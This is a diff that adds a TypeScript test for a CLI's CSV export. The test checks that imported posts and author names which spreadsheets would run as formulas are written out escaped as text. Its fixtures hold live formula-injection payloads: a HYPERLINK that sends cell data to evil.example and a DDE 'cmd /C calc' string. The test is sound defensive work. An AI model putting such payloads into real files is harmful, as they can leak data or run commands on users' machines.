@@ -98,3 +98,59 @@ describe('export', () => {
     expect(k.map((r) => r.day)).toEqual([...k.map((r) => r.day)].sort());
   });
 });
+
+describe('export to CSV of what anyone posted', () => {
+  let tmp: TempDir;
+  beforeAll(() => (tmp = tempDir()));
+  afterAll(() => tmp.cleanup());
+
+  it('writes a post or a name that a spreadsheet would run as a formula as text', async () => {
+    const ws = tmp.path('f.atalaya');
+    await cli(['workspace', 'create', ws, '--brand', 'Acme']);
+    const posts = [
+      '=HYPERLINK("http://evil.example/?d="&A1,"Acme: ver factura")',
+      "+cmd|' /C calc'!A0 acme",
+      '-1+1 acme',
+      '@SUM(1+1)*cmd acme',
+      '@acme mi pedido no llega',
+      'Acme = caro',
+    ];
+    writeFileSync(
+      tmp.path('f.csv'),
+      'date,author,text\n' +
+        posts
+          .map((t, i) => `2026-11-25 10:0${i},${i ? `u${i}` : '=1+2'},"${t.replaceAll('"', '""')}"`)
+          .join('\n'),
+    );
+    expect((await cli(['import', tmp.path('f.csv'), '--workspace', ws])).code).toBe(0);
+    for (const what of ['mentions', 'authors']) {
+      const out = tmp.path(`${what}.csv`);
+      expect((await cli(['export', '--workspace', ws, '--what', what, '--out', out])).code).toBe(0);
+      const rows = Papa.parse<Record<string, string>>(
+        readFileSync(out, 'utf8').replace(/^\ufeff/, ''),
+        { header: true, skipEmptyLines: true },
+      ).data;
+      const cells = rows.flatMap((r) => Object.values(r));
+      // no cell but a negative number starts as a formula; escaped ones keep their words
+      expect(cells.filter((c) => /^(?:[=+-]|@\w*\()/.test(c) && !/^-\d+(\.\d+)?$/.test(c))).toEqual(
+        [],
+      );
+      if (what === 'authors') expect(cells).toContain("'=1+2");
+      else {
+        const texts = rows.map((r) => r['text']);
+        expect(texts).toEqual(
+          expect.arrayContaining([
+            `'${posts[0]}`,
+            `'${posts[1]}`,
+            `'${posts[2]}`,
+            `'${posts[3]}`,
+            '@acme mi pedido no llega',
+            'Acme = caro',
+          ]),
+        );
+        // numbers are not text: a negative sentiment stays a number
+        expect(rows.map((r) => r['sentiment'])).toContain('-1');
+      }
+    }
+  });
+});
